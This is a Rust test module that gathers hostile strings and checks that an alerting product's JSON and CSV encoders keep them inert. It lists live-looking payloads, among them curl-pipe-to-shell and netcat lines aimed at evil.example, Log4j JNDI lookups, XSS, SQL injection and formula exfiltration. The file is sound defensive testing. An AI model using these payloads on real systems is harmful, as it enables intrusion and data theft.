//! A corpus of hostile names, and alerts that bear them everywhere: what every form and every sink has to survive.
//!
//! A name is right behind an encoder or a sink if it reads back as the very same text, and if what a person looks at on the
//! way (a terminal, a spreadsheet, a page, a log line) shows it as text. The names stand as a source hands them over, before
//! anything was escaped: that is the worst case, since the readers of captures and logs escape most of them already.

use std::collections::BTreeMap;

use sonde_common::alert::{
    Alert, AutonomousSystem, Change, Class, Destination, DnsEvidence, Evidence, FindingId, IndicatorMatch,
    Level, Process, ProfileNote, ScorePart, Severity, Technique,
};
use sonde_common::decode::name::TextBuf;
use sonde_common::event::{AppProtocol, Ja4};
use sonde_common::net::Transport;
use sonde_common::process::{Attribution, Method, ProcessInfo, ProcessKey, Quality};
use sonde_common::time::Timestamp;

/// What a name tries to break.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Danger {
    /// A terminal: C0 and C1 controls, ANSI and OSC sequences.
    Terminal,
    /// A line: CR, LF, NEL, U+2028, U+2029, form feed.
    Line,
    /// A spreadsheet: formulas and DDE.
    Formula,
    /// A page: tags, attributes, scripts, entities.
    Markup,
    /// A JSON writer or reader.
    Json,
    /// Delimiters of log formats: syslog's structured data, CEF, LEEF, logfmt, CSV.
    Delimiter,
    /// A syslog receiver: priorities, headers and octet counts of another message.
    Syslog,
    /// A store's query: SQL, KQL, SPL, ES|QL, Lucene, LDAP, XPath, Mongo.
    Query,
    /// A template engine or an expression that a logger looks up.
    Template,
    /// A shell.
    Shell,
    /// A path.
    Path,
    /// A format string.
    Format,
    /// What a reader sees: bidirectional controls.
    Bidi,
    /// What a reader does not see: zero width, fillers, tags, variation selectors.
    Invisible,
    /// Letters that look like others, and names in two spellings.
    LookAlike,
    /// Code points of several units: emoji, joined ones, astral planes, stacked marks.
    Wide,
    /// Bytes that are no UTF-8, as the product keeps them.
    Bytes,
    /// NUL and what ends a C string.
    Nul,
    /// Lengths.
    Length,
    /// Texts that a reader takes for another type: null, numbers, dates, booleans.
    Type,
    /// HTTP, NATS and Kafka: headers, subjects, wildcards.
    Protocol,
}

impl Danger {
    /// All of them.
    pub const ALL: [Self; 21] = [
        Self::Terminal,
        Self::Line,
        Self::Formula,
        Self::Markup,
        Self::Json,
        Self::Delimiter,
        Self::Syslog,
        Self::Query,
        Self::Template,
        Self::Shell,
        Self::Path,
        Self::Format,
        Self::Bidi,
        Self::Invisible,
        Self::LookAlike,
        Self::Wide,
        Self::Bytes,
        Self::Nul,
        Self::Length,
        Self::Type,
        Self::Protocol,
    ];
}

/// One hostile name.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hostile {
    /// What it tries to break.
    pub danger: Danger,
    /// The name.
    pub name: String,
}

/// Names that are spelt out.
const SPELT: &[(Danger, &[&str])] = &[
    (
        Danger::Terminal,
        &[
            "a\x1b[2Jb",
            "\x1b[31mred\x1b[0m",
            "\x1b[1A\x1b[2Koverwritten",
            "\x1b]0;title\x07",
            "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
            "\x1b]52;c;cm0gLXJmIH4K\x07",
            "\x1bP+q544e\x1b\\",
            "\x1b_Gi=31;AAAA\x1b\\",
            "\x1b[?1049h",
            "\x1b[6n",
            "\x1b[20~",
            "\x1bc",
            "\x1b#8",
            "\x1b(0lqk",
            "\u{9b}31m",
            "\u{9d}0;title\u{9c}",
            "\u{90}payload\u{9c}",
            "\u{85}next",
            "bell\x07",
            "back\x08\x08\x08\x08space",
            "\x0e\x0f shift",
            "\x7fdel",
            "\x1a sub",
            "\x1b",
            "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}",
            "\u{10}\u{11}\u{12}\u{13}\u{14}\u{15}\u{16}\u{17}\u{18}\u{19}",
            "\u{1c}\u{1d}\u{1e}\u{1f}",
            "\u{80}\u{81}\u{8d}\u{8f}\u{98}\u{9e}\u{9f}",
        ],
    ),
    (
        Danger::Line,
        &[
            "a\nb",
            "a\rb",
            "a\r\nb",
            "\n",
            "\r\n\r\n",
            "a\u{85}b",
            "a\u{2028}b",
            "a\u{2029}b",
            "a\x0bb\x0cc",
            "trailing\n",
            "\nleading",
            "alert ok\n{\"event\":{\"kind\":\"forged\"}}",
            "x\r\n2026-03-02T09:00:00Z sonde forged: all is well",
            "tab\tseparated\tvalue",
        ],
    ),
    (
        Danger::Formula,
        &[
            "=1+1",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
            "=WEBSERVICE(\"http://evil.example/\")",
            "DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
            "\t=1+1",
            "\r=1+1",
            "  =1+1",
            "\u{a0}=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "\"=1+1\"",
            ";=1+1",
            "|=1+1",
            "%=1+1",
            "'=1+1",
        ],
    ),
    (
        Danger::Markup,
        &[
            "<script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>",
            "'><b>x</b>",
            "\" onmouseover=\"alert(1)",
            "' onfocus='alert(1)' autofocus='",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "<!--",
            "-->",
            "]]>",
            "<![CDATA[x]]>",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "&lt;script&gt;",
            "&#x3c;script&#x3e;",
            "&amp;&quot;&apos;&nbsp;",
            "<style>@import'http://evil.example'</style>",
            "</textarea><script>x</script>",
            "[click](javascript:alert(1))",
            "![x](http://evil.example/x.png)",
            "`code` *bold* _it_ ~~no~~ # head",
            "<http://evil.example|Reset your password>",
            "<!channel> <@U12345>",
        ],
    ),
    (
        Danger::Json,
        &[
            "\"",
            "\\",
            "\\\\",
            "\\\"",
            "\"}",
            "\",\"severity\":\"info\",\"x\":\"",
            "\"}]}\n{\"index\":{\"_index\":\"other\"}}\n{\"a\":\"",
            "\\u0000",
            "\\u001b[2J",
            "\\ud800",
            "\\n\\r\\t",
            "{\"$ref\":\"#\"}",
            "{\"__proto__\":{\"admin\":true}}",
            "[[[[[[[[[[[[[[[[",
            "{{{{{{{{{{{{{{{{",
            "/*x*/ // y",
            "\\x3cscript\\x3e",
        ],
    ),
    (
        Danger::Delimiter,
        &[
            "]",
            "[",
            "|",
            "=",
            ",",
            ";",
            ":",
            "'",
            "`",
            "a]b\"c\\d",
            "a=b|c=d",
            "\\|\\=",
            "key=\"value\" other=\"x",
            "a,b,\"c\",\"d\"\"e\"",
            "CEF:0|Forged|Sensor|1.0|100|All is well|0|msg=x",
            "LEEF:2.0|Forged|Sensor|1.0|100|^|cat=x",
            "cs1Label=x cs1=y",
            "^",
            "\t|\t",
            "--",
            "---\n- yaml: true",
            "#comment",
        ],
    ),
    (
        Danger::Syslog,
        &[
            "<34>1 2026-03-02T09:00:00Z host su - ID47 - forged",
            "<0>panic",
            "<999>1",
            "\n<34>Oct 11 22:14:15 host su: forged",
            "47 <34>1 2026-03-02T09:00:00Z host su - - - forged",
            "[exampleSDID@32473 iut=\"3\"]",
            "x\"] forged [y z=\"",
            "\u{feff}BOM",
            "0 ",
            "- - - -",
        ],
    ),
    (
        Danger::Query,
        &[
            "' OR '1'='1",
            "'; DROP TABLE alerts; --",
            "\" OR \"\"=\"",
            "1); DELETE FROM sonde.summaries WHERE (1=1",
            "' UNION SELECT name FROM system.tables --",
            "x' FORMAT CSV",
            "{name:String}",
            "\"; SigninLogs | take 1 //",
            "\" or 1==1 | project *",
            "@'x' h@\"y\"",
            "* | delete",
            "\" | outputlookup x.csv | search \"",
            "[| makeresults ]",
            "`macro(1)`",
            "$token$",
            "\" | EVAL x = 1 | KEEP *",
            "* OR *:*",
            "field:(a AND b) ~2 ^4",
            "*)(uid=*))(|(uid=*",
            "' or '1'='1' or ''='",
            "{\"$gt\":\"\"}",
            "a\\' OR 1=1 -- ",
        ],
    ),
    (
        Danger::Template,
        &[
            "{{7*7}}",
            "{{name}}",
            "{{{name}}}",
            "{{#each this}}{{/each}}",
            "{% include '/etc/passwd' %}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "{{.Env}}",
            "[[${7*7}]]",
            "{event.id}",
            "}}{{",
            "{",
            "}",
        ],
    ),
    (
        Danger::Shell,
        &[
            "$(reboot)",
            "`reboot`",
            "; rm -rf /",
            "&& curl evil.example | sh",
            "| nc evil.example 1",
            "a' 'b",
            "--help",
            "-rf",
            "~root",
            "*",
            "?",
            "%COMSPEC% /c calc",
            "!event",
            "$IFS",
            "> /dev/null",
        ],
    ),
    (
        Danger::Path,
        &[
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd",
            "C:\\Windows\\System32\\cmd.exe",
            "\\\\evil.example\\share\\x",
            "\\\\?\\C:\\x",
            "CON",
            "NUL.txt",
            "file:///etc/passwd",
            "%2e%2e%2fetc%2fpasswd",
            "..%c0%af..%c0%afetc",
            ".",
            "..",
            "a/b/../c",
            "/proc/self/fd/0",
            "x.png:evil.exe",
        ],
    ),
    (
        Danger::Format,
        &[
            "%s%s%s%s%s",
            "%n%n%n",
            "%x.%x.%x",
            "%99999999s",
            "{0}{1}{2}",
            "{}",
            "{:?}",
            "%%",
            "%(name)s",
            "%0a%0d",
            "%00",
        ],
    ),
    (
        Danger::Bidi,
        &[
            "gpj\u{202e}exe.a",
            "\u{202d}left",
            "\u{202a}a\u{202c}",
            "\u{202b}a\u{202c}",
            "\u{2066}a\u{2069}",
            "\u{2067}a\u{2069}",
            "\u{2068}a\u{2069}",
            "\u{200e}\u{200f}",
            "\u{61c}",
            "moc.elgoog\u{202e}",
            "שלום.example",
            "عربي.example",
            "\u{206a}\u{206b}\u{206c}\u{206d}\u{206e}\u{206f}",
        ],
    ),
    (
        Danger::Invisible,
        &[
            "a\u{200b}b",
            "a\u{200c}b",
            "a\u{200d}b",
            "a\u{2060}b",
            "a\u{feff}b",
            "a\u{ad}b",
            "a\u{180e}b",
            "\u{2061}\u{2062}\u{2063}\u{2064}",
            "\u{fff9}a\u{fffa}b\u{fffb}",
            "tag\u{e0041}\u{e0042}\u{e007f}",
            "\u{e0001}en",
            "\u{3164}",
            "\u{115f}\u{1160}",
            "a\u{fe0f}",
            "a\u{e0100}",
            " ",
            "  two  ",
            "\u{a0}",
            "\u{2003}\u{3000}",
            "\u{2800}",
        ],
    ),
    (
        Danger::LookAlike,
        &[
            "раypal.example",
            "gооgle.example",
            "ｇｏｏｇｌｅ.example",
            "xn--pple-43d.example",
            "xn--a",
            "bücher.example",
            "xn--bcher-kva.example",
            "BÜCHER.example",
            "straße.example",
            "STRASSE.example",
            "é",
            "e\u{301}",
            "\u{212b}",
            "\u{c5}",
            "A\u{30a}",
            "ﬁle",
            "İstanbul",
            "ıstanbul",
            "a.b。c．d",
            "evil∕example",
            "evil․example",
            "e\u{300}\u{301}",
            "\u{1e9e}",
        ],
    ),
    (
        Danger::Wide,
        &[
            "💀.example",
            "👨\u{200d}👩\u{200d}👧\u{200d}👦",
            "🏴\u{e0067}\u{e0062}\u{e007f}",
            "🇩🇪",
            "👍🏽",
            "設備監視",
            "𝒆𝒗𝒊𝒍",
            "\u{10ffff}",
            "\u{ffff}\u{fffe}",
            "\u{e000}",
            "\u{fdd0}",
            "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}",
            "ไทย",
            "नमस्ते",
            "\u{fdfa}",
        ],
    ),
    (Danger::Nul, &["a\0b", "\0", "evil.exe\0.txt", "\0\0\0\0", "name\0\n\0"]),
    (
        Danger::Type,
        &[
            "null",
            "NULL",
            "undefined",
            "true",
            "False",
            "NaN",
            "-Infinity",
            "0",
            "-0",
            "1e309",
            "0x1F",
            "007",
            "9223372036854775808",
            "2026-03-02",
            "2026-03-02T09:00:00Z",
            "1,000",
            "127.0.0.1",
            "::1",
            "_id",
            "@timestamp",
            "a.b.c",
            "constructor",
            "[object Object]",
        ],
    ),
    (
        Danger::Protocol,
        &[
            "x\r\nX-Injected: 1",
            "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
            "\r\n0\r\n\r\n",
            "a.*.>",
            ">",
            "$JS.API.STREAM.DELETE.SONDE",
            "MSG x 1 4\r\nevil\r\n",
            "PING\r\n",
            "http://user:pass@evil.example:80/?a=b#c",
            "evil.example:443/path",
            "[::1]:80",
            "Bearer eyJhbGciOiJub25lIn0.e30.",
            "__consumer_offsets",
        ],
    ),
];

/// Bytes that are no UTF-8: overlong forms, surrogates, cut and stray units, what is beyond Unicode.
const BYTES: &[&[u8]] = &[
    b"\xff\xfe",
    b"\xc0\xaf",
    b"\xc0\x80",
    b"\xe0\x80\xaf",
    b"\xf0\x80\x80\xaf",
    b"\xed\xa0\x80",
    b"\xed\xa0\xbd\xed\xb8\x80",
    b"\xf4\x90\x80\x80",
    b"\xf8\x88\x80\x80\x80",
    b"\x80",
    b"\xbf\xbf",
    b"caf\xe9",
    b"cut\xe2\x82",
    b"\xc3(",
    b"a\xc2",
    b"\xfe\xff\x00a",
    b"evil\xff.example",
];

/// The corpus: no name twice, always in the same order.
#[must_use]
pub fn names() -> Vec<Hostile> {
    let spelt =
        SPELT.iter().flat_map(|&(danger, names)| names.iter().map(move |&name| (danger, name.to_owned())));
    // As captures keep them, and as logs do.
    let bytes = BYTES.iter().flat_map(|bytes| {
        [TextBuf::<256>::from_text(bytes).as_str().to_owned(), String::from_utf8_lossy(bytes).into_owned()]
    });
    let long = [
        "a".repeat(253),
        "a".repeat(4096),
        "\u{1b}".repeat(300),
        "\u{202e}".repeat(300),
        "設".repeat(1000),
        "\"\\".repeat(500),
        "%s".repeat(500),
        "x.".repeat(126),
        "💀".repeat(400),
        "word ".repeat(400),
    ];
    let mut known = BTreeMap::new();
    let mut all = Vec::new();
    let bytes = bytes.map(|name| (Danger::Bytes, name));
    let long = long.into_iter().map(|name| (Danger::Length, name));
    for (danger, name) in spelt.chain(bytes).chain(long) {
        if known.insert(name.clone(), danger).is_none() {
            all.push(Hostile { danger, name });
        }
    }
    all
}

/// An alert that has this name in every text that is not Sonde's own.
#[must_use]
pub fn alert_with(name: &str) -> Alert {
    let text = || name.to_owned();
    let at = |secs: i64| Timestamp::from_secs_nanos(1_772_442_000 + secs, 0);
    // A finding of its own for each name, so that no receiver takes two for one.
    let id = name.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |hash, byte| {
        (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
    });
    Alert {
        id: FindingId(u128::from(id)),
        revision: 1,
        change: Change::Created,
        class: Class::Beacon,
        host: text(),
        time: at(3600),
        detected: Some(at(900)),
        detected_after_callbacks: 12,
        severity: Severity::High,
        score: 0.9,
        points: 2.25,
        parts: vec![ScorePart { name: "location".into(), points: 2.25, detail: text() }],
        missing: vec!["program_history".into()],
        reason: text(),
        process: Some(Process {
            key: Some(ProcessKey { pid: 4711, start: at(-10) }),
            info: ProcessInfo {
                image: text(),
                command_line: text(),
                sha256: text(),
                script: text(),
                parent_image: text(),
                user: text(),
                container: text(),
                pod: text(),
                service: text(),
                package: text(),
                ancestors: vec![text(), text()],
                signed: Some(false),
                ..ProcessInfo::default()
            },
        }),
        attribution: Attribution { method: Method::Ebpf, quality: Quality::KernelExact },
        suppressed_by: None,
        destination: Destination {
            name: text(),
            registrable_domain: text(),
            fqdn: text(),
            sni: text(),
            connect_host: text(),
            http_host: text(),
            user_agent: text(),
            ip: Some([203, 0, 113, 9].into()),
            port: 443,
            transport: Transport::Tcp,
            protocol: AppProtocol::Tls,
            ja4: Ja4::parse("t13d190900_9dc949149365_97f8aa674fd9"),
            certificate: sonde_common::certificate::Certificate::default(),
            autonomous_system: Some(AutonomousSystem {
                number: 64_500,
                organization: text(),
                hosting: false,
            }),
            group: vec![text(), text()],
        },
        evidence: Evidence {
            level: Level::Connection,
            bans: 12.5,
            test: "w2".into(),
            shape: "one interval with small jitter".into(),
            matched: 50,
            of: 52,
            period_secs: 60.0,
            interval_median_secs: 60.0,
            jitter_mad_ratio: 0.05,
            callbacks: 53,
            first_seen: at(0),
            last_seen: at(3600),
            recent: vec![at(3540), at(3600)],
            bytes_out: 1_000,
            bytes_in: 2_000,
            ..Evidence::default()
        },
        dns: Some(DnsEvidence {
            queries: 3,
            names: 1,
            types: vec![(text(), 3)],
            samples: vec![text()],
            ..DnsEvidence::default()
        }),
        indicators: vec![IndicatorMatch {
            kind: "domain".into(),
            value: text(),
            matched: text(),
            feed: text(),
            label: text(),
            confidence: Some(80),
            group: text(),
            software: text(),
            reference: text(),
            ..IndicatorMatch::default()
        }],
        profile: Some(ProfileNote {
            name: text(),
            class: text(),
            matched: false,
            mismatch: text(),
            excused: false,
        }),
        techniques: vec![Technique {
            id: "T1071.001".into(),
            name: "Application Layer Protocol: Web Protocols".into(),
        }],
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use serde_json::Value;
    use sonde_common::encode::{csv, native};
    use sonde_common::guide::Guidance;

    use super::*;
    use crate::words::harmful;

    #[test]
    fn the_corpus_is_large_without_repeats_and_of_every_danger() {
        let all = names();
        assert!(all.len() >= 200, "{}", all.len());
        let distinct: BTreeSet<_> = all.iter().map(|hostile| &hostile.name).collect();
        assert_eq!(distinct.len(), all.len());
        for danger in Danger::ALL {
            let of_it = all.iter().filter(|hostile| hostile.danger == danger).count();
            assert!(of_it >= 5, "{danger:?}: {of_it}");
        }
        let ids: BTreeSet<_> = all.iter().map(|hostile| alert_with(&hostile.name).id).collect();
        assert_eq!(ids.len(), all.len(), "each name has a finding of its own");
    }

    /// Every text of a document.
    fn texts<'v>(value: &'v Value, out: &mut Vec<&'v str>) {
        match value {
            Value::String(text) => out.push(text),
            Value::Array(items) => items.iter().for_each(|item| texts(item, out)),
            Value::Object(fields) => fields.values().for_each(|item| texts(item, out)),
            _ => {}
        }
    }

    #[test]
    fn native_json_stays_one_plain_line_and_reads_back_intact() {
        for Hostile { danger, name } in names() {
            let line = native::to_json_with(&alert_with(&name), Guidance::Full);
            assert!(!line.contains(harmful) && !line.contains('\n'), "{danger:?} {name:?}");
            let value: Value = serde_json::from_str(&line).unwrap();
            let mut found = Vec::new();
            texts(&value, &mut found);
            let intact = found.iter().filter(|text| **text == name).count();
            assert!(intact >= 25, "{danger:?} {name:?}: {intact}");
            for path in
                ["/host/name", "/process/command_line", "/sonde/destination/name", "/user_agent/original"]
            {
                assert_eq!(value.pointer(path).and_then(Value::as_str), Some(&*name), "{danger:?} {path}");
            }
        }
    }

    #[test]
    fn cells_of_csv_stay_plain_and_compute_nothing() {
        for Hostile { danger, name } in names() {
            for (column, cell) in csv::HEADER.iter().zip(csv::row(&alert_with(&name))) {
                assert!(!cell.contains(harmful) && !cell.contains('\n'), "{danger:?} {column}: {cell:?}");
                assert!(!crate::words::is_formula(&cell), "{danger:?} {column}: {cell:?}");
            }
        }
    }
}
